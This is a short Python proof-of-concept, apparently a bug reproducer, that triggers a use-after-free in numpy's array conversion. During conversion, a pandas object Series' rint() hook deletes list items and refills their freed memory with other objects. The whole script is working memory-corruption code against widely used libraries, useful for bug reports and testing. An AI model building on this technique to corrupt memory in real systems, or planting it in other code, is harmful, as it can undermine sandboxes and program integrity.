# source: numpy array_coercion.c PyArray_AssignFromCache_Recursive; pandas NDFrame.__round__ -> ndarray.round -> object 'rint' loop calls element.rint()
# family: conversion (__float__) calls round() (allowed as arithmetic) on a pandas Series of objects: numpy calls the element's .rint() (arbitrary code)
# goal: rint() deletes list items numpy still reads and refills their memory: numpy converts objects never in the list (use-after-free)
import sys
import numpy as np
import pandas as pd


DONE = []
KEEP = []


class Trig:
    def rint(self):
        mutate()
        return 0.0


def mutate():
    if not DONE:
        DONE.append(1)
        # numpy read the length (64) once and reads items by index: free items 32..63
        del LST[32:]
        # new objects of the same size take the freed objects' memory
        k = 0
        while k < 40:
            KEEP.append(B(1000.0 + k))
            k += 1
    return "a"


BOX = pd.Series([Trig()], dtype=object)


class B:
    __slots__ = ("v",)

    def __init__(self, w):
        self.v = w

    def __float__(self):
        return self.v


class A:
    __slots__ = ("v",)

    def __init__(self, v):
        self.v = v

    def __float__(self):
        return float(round(BOX).iloc[0]) + self.v


LST = list(tuple(A(float(i)) for i in range(64)))
arr = np.array(LST, dtype=float)
print("np.array(LST) gave", len(arr), "values; LST now has", len(LST), "items")
print("values:", arr)
print("values >= 1000 come from B objects never in LST (freed A slots reused):", int((arr >= 1000).sum()))
sys.stdout.flush()
